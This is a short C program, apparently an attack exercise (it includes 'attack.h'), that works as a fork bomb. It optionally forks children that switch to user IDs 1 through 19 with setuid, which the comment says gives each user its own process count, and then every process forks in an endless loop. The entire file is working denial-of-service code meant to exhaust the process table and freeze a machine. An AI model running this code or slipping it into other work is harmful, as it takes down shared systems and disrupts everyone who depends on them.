/* Processes without end; with an argument those of many users, each of which has a count of its own. */
#include "attack.h"

int main(int argc, char **argv) {
    for (int user = 1; argc > 1 && user < 20; user++)
        if (fork() == 0) {
            setuid(user);
            break;
        }
    for (;;) fork();
}
